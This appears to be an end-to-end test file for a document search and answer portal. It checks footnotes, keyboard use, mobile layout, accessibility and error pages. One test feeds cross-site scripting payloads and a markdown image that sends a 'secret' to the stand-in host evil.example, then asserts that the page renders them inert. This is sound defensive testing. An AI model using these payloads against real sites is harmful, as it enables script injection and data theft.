import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { AxeBuilder } from '@axe-core/playwright';
import { beforeEach, describe, expect, it } from '@jest/globals';
import type { BrowserContextOptions, Page } from 'playwright-core';
import { sampleQuestions } from '../../support/sample-questions.ts';
import { startFootnote } from '../../support/start-footnote.ts';
import { usePortal } from '../../support/use-portal.ts';
import { waitForSample } from '../../support/wait-for-sample.ts';

const [question = ''] = await sampleQuestions();
/** A word that the sample must hold, since it is in a question that the sample answers. */
const word = question.split(/\W+/).reduce((longest, next) => (next.length > longest.length ? next : longest), '');

const testMsMax = 120_000;
const answerMsMax = 60_000;

const portal = usePortal({
  viewport: { width: 1440, height: 900 },
  environment: { FOOTNOTE_SAMPLE: 'true' },
  prepare: ({ client }) => waitForSample(client),
});
let page: Page;
beforeEach(() => {
  page = portal.page;
});

async function openPage(options: BrowserContextOptions): Promise<void> {
  await portal.reopen(options);
  page = portal.page;
}

// Run in the page, where there is a document; this program has none, so they are texts to it.
const overflowPixels = 'document.documentElement.scrollWidth - document.documentElement.clientWidth';
const quoteIsInView = `(() => {
  const top = document.querySelector('[data-document] mark')?.getBoundingClientRect().top ?? -1;
  return top >= 0 && top < window.innerHeight;
})()`;

async function visitAnswer(): Promise<void> {
  await portal.visit(`/ask?${new URLSearchParams({ q: question })}`);
  await page.waitForSelector('[data-phase="done"]', { timeout: answerMsMax });
}

/** The marked words of the open document, as one text without regard to white space. */
const markedText = async () => flat((await page.locator('[data-document] mark').allTextContents()).join(''));
const flat = (text: string) => text.replaceAll(/\s|\|/g, '');

describe('the portal', () => {
  it(
    'answers a typed question with a footnote at every sentence, and opens the source at the quote',
    async () => {
      await portal.visit('/');
      await page.locator('[data-query-box]').fill(question);
      await page.keyboard.press('Enter');
      await page.waitForSelector('[data-phase="done"]', { timeout: answerMsMax });
      const sentences = page.locator('[data-sentence]');
      expect(await sentences.count()).toBeGreaterThan(0);
      for (const sentence of await sentences.all()) {
        expect(await sentence.locator('xpath=following-sibling::button[1]').count()).toBe(1);
      }
      const quote = await page.locator('[role=note] q').first().textContent();
      await page.locator('[data-marker]').first().click();
      const mark = page.locator('.reading-pane mark').first();
      await mark.waitFor();
      expect(await mark.isVisible()).toBe(true);
      expect(await markedText()).toBe(flat(quote ?? ''));
      expect(portal.complaints).toEqual([]);
    },
    testMsMax,
  );

  it(
    'shows the same answer after a reload without asking again, and on the way back from a source',
    async () => {
      await visitAnswer();
      const asked: string[] = [];
      page.on('request', (request) => {
        if (request.method() === 'POST' && request.url().endsWith('/api/v1/answers')) asked.push(request.url());
      });
      await page.reload();
      await page.waitForSelector('[data-phase="done"]');
      await page.locator('article a').first().click();
      await page.waitForSelector('[data-document]');
      await page.keyboard.press('Escape');
      await page.waitForSelector('[data-phase="done"]');
      expect(asked).toEqual([]);
    },
    testMsMax,
  );

  it(
    'finds passages, counts them aloud, and opens one with its words marked',
    async () => {
      await portal.visit('/');
      await page.locator('[data-query-box]').fill(word);
      await page.keyboard.press('Enter');
      await page.waitForURL('**/search?**');
      const entries = page.locator('article');
      await entries.first().waitFor();
      expect(await page.locator('[data-live-region]').textContent()).toMatch(/^\d+ passages? found$/);
      await entries.first().locator('a').click();
      const mark = page.locator('[data-document] mark').first();
      await mark.waitFor();
      expect(await page.locator('[data-document] mark:focus').count()).toBe(1);
      expect(portal.complaints).toEqual([]);
    },
    testMsMax,
  );

  it(
    'can be used from the keyboard alone',
    async () => {
      await visitAnswer();
      const focused = (attribute: string) => page.locator(':focus').getAttribute(attribute);
      await page.keyboard.press(']');
      expect(await focused('data-marker')).not.toBeNull();
      const number = await focused('data-marker');
      await page.keyboard.press('Enter');
      await page.locator('.reading-pane mark').first().waitFor();
      await page.keyboard.press('Escape');
      expect(await page.locator('.reading-pane').count()).toBe(0);
      expect(await focused('data-marker')).toBe(number);
      await page.keyboard.press('j');
      expect(await focused('data-list-item')).not.toBeNull();
      await page.keyboard.press('?');
      await page.getByRole('dialog', { name: 'Keyboard' }).waitFor();
      await page.keyboard.press('Escape');
      await page.getByRole('dialog').waitFor({ state: 'detached' });
      await page.keyboard.press('/');
      expect(await focused('data-query-box')).not.toBeNull();
      await page.keyboard.press('Control+k');
      await page.getByRole('dialog', { name: 'Commands' }).waitFor();
      await page.keyboard.type('add your');
      await page.getByRole('option', { name: 'Add your documents' }).click();
      await page.waitForURL('**/add');
    },
    testMsMax,
  );

  it(
    'opens the document page at the quote on a phone',
    async () => {
      await openPage({ viewport: { width: 360, height: 740 }, isMobile: true, hasTouch: true });
      await visitAnswer();
      await page.locator('[data-marker]').first().tap();
      await page.waitForURL('**/documents/**');
      const mark = page.locator('[data-document] mark').first();
      await mark.waitFor();
      await page.waitForFunction(quoteIsInView);
    },
    testMsMax,
  );

  it(
    'says when a part of the service is not ready, and what still works',
    async () => {
      const noModels = await mkdtemp(join(tmpdir(), 'footnote-models-'));
      const degraded = await startFootnote({ environment: { FOOTNOTE_MODELS_DIR: noModels } });
      try {
        await page.goto(degraded.url);
        expect(await page.locator('[data-status="degraded"]').textContent()).toContain('Search goes by words alone');
      } finally {
        await degraded.stop();
        await rm(noModels, { recursive: true });
      }
    },
    testMsMax,
  );

  it(
    'keeps the chosen theme, from the first byte on',
    async () => {
      await portal.visit('/');
      await page.getByRole('button', { name: 'Change between light and dark' }).click();
      await page.reload();
      expect(await page.locator('html').getAttribute('data-theme')).toBe('dark');
    },
    testMsMax,
  );

  it(
    'shows hostile text of a document as text, and follows none of its addresses',
    async () => {
      const { client } = portal;
      const hostile = [
        '<script>alert(1)</script> <img src=x onerror=alert(1)> </mark><svg onload=alert(1)>',
        '![zebrafish](https://evil.example/?secret=canary) [zebrafish](javascript:alert(1)) <https://evil.example/>',
      ].join('\n\n');
      await client.putSource('hostile', { defaultAccess: { everyone: true } });
      const { documentId } = await client.receiveDocument(
        { source: 'hostile', externalId: 'a.txt', mediaType: 'text/plain', text: hostile, uri: 'javascript:alert(1)' },
        { wait: true },
      );
      page.on('dialog', (dialog) => portal.complaints.push(dialog.message()));
      for (const path of [`/documents/${documentId}?start=0&end=60`, '/search?q=zebrafish', '/ask?q=zebrafish?']) {
        await portal.visit(path);
        await page.getByText('canary').first().waitFor();
        // The frames of plugins are the portal's own.
        const foreign = 'main :is(img, script, iframe:not([src^="/plugins/"]), [onerror], [onload])';
        expect(await page.locator(foreign).count()).toBe(0);
        expect(await page.locator('main a[href*="evil"], main a[href^="javascript"]').count()).toBe(0);
      }
      expect(portal.complaints).toEqual([]);
    },
    testMsMax,
  );

  it(
    'answers 404 for a document that is not there, as a page with a way on',
    async () => {
      const response = await portal.visit('/documents/doc_00000000');
      expect(response?.status()).toBe(404);
      expect(await page.getByRole('link', { name: 'Search the documents' }).count()).toBe(1);
    },
    testMsMax,
  );
});

describe.each(['light', 'dark'] as const)('every page in %s', (colorScheme) => {
  const paths = [
    '/',
    '/add',
    `/search?q=${encodeURIComponent(word)}`,
    '/search?q=qqqqzzzz',
    `/ask?q=${encodeURIComponent(question)}`,
    '/documents/doc_00000000',
  ];

  it.each(paths)(
    'has no serious fault for assistive technology, and fits a narrow phone: %s',
    async (path) => {
      await openPage({ viewport: { width: 360, height: 740 }, colorScheme });
      await portal.visit(path);
      if (path.startsWith('/ask')) await page.waitForSelector('[data-phase="done"]', { timeout: answerMsMax });
      const { violations } = await new AxeBuilder({ page }).analyze();
      const serious = violations.filter(({ impact }) => impact === 'serious' || impact === 'critical');
      expect(serious.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(' ')}`)).toEqual([]);
      const overflow = await page.evaluate<number>(overflowPixels);
      expect(overflow).toBeLessThanOrEqual(0);
    },
    testMsMax,
  );
});
